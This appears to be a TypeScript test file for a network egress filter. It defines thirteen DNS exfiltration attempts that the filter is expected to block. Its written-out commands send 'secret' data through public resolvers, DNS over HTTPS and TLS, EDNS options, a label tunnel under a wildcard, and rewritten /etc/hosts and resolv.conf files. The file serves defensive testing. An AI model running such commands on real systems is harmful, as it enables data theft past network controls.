// T1 to T13: names, and ways to ask for them.
import { ALLOWED, FORBIDDEN, PLACES, PLATFORM_RESOLVER, type PrivilegedWorld } from "@lockstep/testkit/privileged";
import { attack, work } from "../attack.ts";
import type { Case } from "../case.ts";
import { askedForEvil, either, flowTo, reachedEvil } from "../harm.ts";

const EVIL = FORBIDDEN.name;
const DIG = "dig +tries=1 +timeout=2";

/** Names of an allowed wildcard; what stands before it can carry data. */
const WILD = "wild.example.test";
const WILD_NAMES = { [`*.${WILD}`]: { a: ["11.1.0.30"], txt: "payload" } };
const WILD_INPUTS = { "allowed-endpoints": `${ALLOWED.name}:443\n*.${WILD}:80` };

/** Where lies of the resolvers point at. */
const LIE = "11.6.6.6";
/** More bytes than this in the labels of one run's names count as a tunnel. */
const TUNNEL_BYTES = 4096;

const LIED = {
  "id.example.test": { a: [ALLOWED.a], manner: "wrong-id" },
  "question.example.test": { a: [ALLOWED.a], manner: "wrong-question" },
  "unrelated-in-answer.example.test": { a: [ALLOWED.a], manner: "adds-unrelated" },
} as const;

const FRESH = Array.from({ length: 20 }, (_, index) => `n${index}.fresh.example.test`);

export const DNS_CASES: readonly Case[] = [
  {
    id: "T1",
    title: "A query by UDP to a resolver of the job's choice",
    outcome: "prevented",
    run: attack({
      act: `${DIG} @8.8.8.8 TXT secret.${EVIL}; ${DIG} @2001:4860:4860::8888 TXT secret.${EVIL}`,
      harm: either(askedForEvil, flowTo({ address: "8.8.8.8" }, { address: "2001:4860:4860::8888" })),
      sign: ({ report }) => report.blocked.some(({ destination }) => destination === `secret.${EVIL}`),
    }),
  },
  {
    id: "T2",
    title: "A query by TCP to a resolver of the job's choice",
    outcome: "prevented",
    run: attack({
      act: `${DIG} +tcp @1.1.1.1 TXT secret.${EVIL}`,
      harm: either(askedForEvil, flowTo({ address: "1.1.1.1" })),
      sign: ({ report }) => report.blocked.some(({ destination }) => destination === `secret.${EVIL}`),
    }),
  },
  {
    id: "T3",
    title: "A query to the platform's own resolver for a name of the attacker's, by UDP and TCP, also as root",
    outcome: "prevented",
    run: attack({
      act: ["", "sudo "]
        .flatMap((as) => ["", "+tcp "].map((way) => `${as}${DIG} ${way}@${PLATFORM_RESOLVER} A secret.${EVIL} || true`))
        .join("\n"),
      harm: askedForEvil,
    }),
  },
  {
    id: "T4",
    title: "DNS over HTTPS to well-known resolvers, as user and as root",
    outcome: "prevented",
    run: attack({
      act: ["8.8.8.8", "1.1.1.1", "9.9.9.9"]
        .flatMap((server) =>
          ["", "sudo "].map((as) => `${as}curl -sk -m 3 "https://${server}/dns-query?name=secret.${EVIL}" || true`),
        )
        .join("\n"),
      harm: flowTo(...["8.8.8.8", "1.1.1.1", "9.9.9.9"].map((address) => ({ address }))),
    }),
  },
  {
    id: "T5",
    title: "DNS over TLS, over QUIC, and oblivious over a proxy",
    outcome: "prevented",
    run: attack({
      act: `
echo | timeout 3 openssl s_client -connect 1.1.1.1:853 || true
echo secret > /dev/udp/9.9.9.9/853 || true
curl -sk -m 3 --data-binary secret https://odoh.${EVIL}/proxy || true`,
      harm: either(askedForEvil, flowTo({ port: 853 }), reachedEvil),
    }),
  },
  {
    id: "T6",
    title: "DNS on an odd port",
    outcome: "prevented",
    run: attack({
      act: `${DIG} -p 5354 @8.8.8.8 TXT secret.${EVIL}`,
      harm: either(askedForEvil, flowTo({ port: 5354 })),
    }),
  },
  {
    id: "T7",
    title: "Data in record types, EDNS options, padding and a second question, below an allowed wildcard",
    outcome: "prevented",
    run: attack({
      names: WILD_NAMES,
      inputs: WILD_INPUTS,
      act: `
for type in TXT NULL HTTPS SVCB MX SRV CNAME ANY; do ${DIG} $type data.${WILD} || true; done
${DIG} +ednsopt=65001:736563726574 A edns.${WILD} || true
${DIG} +padding=468 A padded.${WILD} || true
${PLACES.node} -e '${twoQuestions(`one.${WILD}`, `secret.${EVIL}`)}'`,
      harm: either(askedForEvil, async ({ internet }) =>
        (await internet.arrivals()).some(
          (arrival) =>
            arrival.kind === "dns" &&
            (arrival.options.some((option) => option === 65_001 || option === 12) ||
              arrival.questions.some(({ type }) => type !== "A" && type !== "AAAA")),
        ),
      ),
    }),
  },
  {
    id: "T8",
    title: "A tunnel in the labels below an allowed wildcard",
    outcome: "prevented",
    why: "A few hundred bytes a run can still leave as ordinary-looking names: allow wildcards sparingly.",
    run: attack({
      names: WILD_NAMES,
      inputs: WILD_INPUTS,
      act: `for i in $(seq 200); do ${DIG} +tries=1 A "$(head -c 20 /dev/urandom | od -An -tx1 | tr -d ' \\n').${WILD}" > /dev/null || true; done`,
      harm: async (world) => (await bytesInLabels(world)) > TUNNEL_BYTES,
    }),
  },
  {
    id: "T9",
    title: "An allowed name in mixed case still works",
    outcome: "prevented",
    run: work({ script: "curl -sf -m 5 http://AlLoWeD.eXaMpLe.TeSt/" }),
  },
  {
    id: "T10",
    title: "Forged answers: a wrong id, another question, an address for a name that nobody asked for",
    outcome: "prevented",
    run: attack({
      names: LIED,
      inputs: {
        "allowed-endpoints": Object.keys(LIED)
          .map((name) => `${name}:80`)
          .join("\n"),
      },
      act: `
for name in ${Object.keys(LIED).join(" ")}; do curl -s -m 3 "http://$name/" || true; done
curl -s -m 3 http://${LIE}/ || true`,
      harm: flowTo({ address: LIE }),
    }),
  },
  {
    id: "T11",
    title: "A connection right after the answer never meets a rule that is not there yet",
    outcome: "prevented",
    run: work({
      names: Object.fromEntries(FRESH.map((name, index) => [name, { a: [`11.1.1.${index}`] }])),
      inputs: { "allowed-endpoints": FRESH.map((name) => `${name}:80`).join("\n") },
      script: FRESH.map((name) => `curl -sf -m 5 http://${name}/ > /dev/null`).join("\n"),
    }),
  },
  {
    id: "T12",
    title: "Names with a TTL of zero and rotating addresses work, and what they opened closes again",
    outcome: "prevented",
    run: attack({
      names: { "rotating.example.test": { a: ["11.1.2.1", "11.1.2.2", "11.1.2.3"], ttl: 0, rotate: true } },
      inputs: { "allowed-endpoints": "rotating.example.test:80" },
      act: async (world, _stage, protectedRun) => {
        const get = "for i in 1 2 3; do curl -sf -m 5 http://rotating.example.test/; done";
        const { conclusion, log } = await world.job.step("rotate", get);
        if (conclusion !== "success") throw new Error(`the rotating name does not work: ${log}`);
        await world.job.step("wait", `sleep ${protectedRun ? EXPIRY_SECONDS : 0}`, { timeoutMs: 90_000 });
        await world.internet.forget();
        await world.job.step("late", "curl -s -m 3 http://11.1.2.1/");
      },
      harm: flowTo({ address: "11.1.2.1", port: 80 }),
    }),
  },
  {
    id: "T13",
    title: "An address under an allowed name by /etc/hosts, and a resolver of the job's own",
    outcome: "prevented",
    run: attack({
      act: `
echo "${FORBIDDEN.a} ${ALLOWED.name}" | sudo tee -a /etc/hosts > /dev/null
curl -s -m 3 http://${ALLOWED.name}/ || true
echo "nameserver 8.8.8.8" | sudo tee /etc/resolv.conf > /dev/null
curl -s -m 3 http://x.${EVIL}/ || true`,
      harm: either(askedForEvil, reachedEvil),
      sign: ({ report }) =>
        ["hosts-write", "resolver-write"].every((id) => report.detections.some((one) => one.id === id)),
    }),
  },
];

/** Longer than what a grant may outlive its answer by. */
const EXPIRY_SECONDS = 45;

/** JavaScript that sends one query with two questions to the platform's resolver. */
function twoQuestions(first: string, second: string): string {
  const question = (name: string): string =>
    [
      ...name
        .split(".")
        .map((label) => `${label.length.toString(16).padStart(2, "0")}${Buffer.from(label).toString("hex")}`),
      "00",
      "00010001",
    ].join("");
  const query = `1234010000020000000000 00${question(first)}${question(second)}`.replaceAll(" ", "");
  return `const s=require("dgram").createSocket("udp4");s.send(Buffer.from("${query}","hex"),53,"${PLATFORM_RESOLVER}");setTimeout(()=>s.close(),500)`;
}

async function bytesInLabels({ internet }: PrivilegedWorld): Promise<number> {
  const names = (await internet.arrivals()).flatMap((arrival) =>
    arrival.kind === "dns" ? arrival.questions.map(({ name }) => name) : [],
  );
  return [...new Set(names)].reduce((sum, name) => sum + Math.max(0, name.length - WILD.length), 0);
}
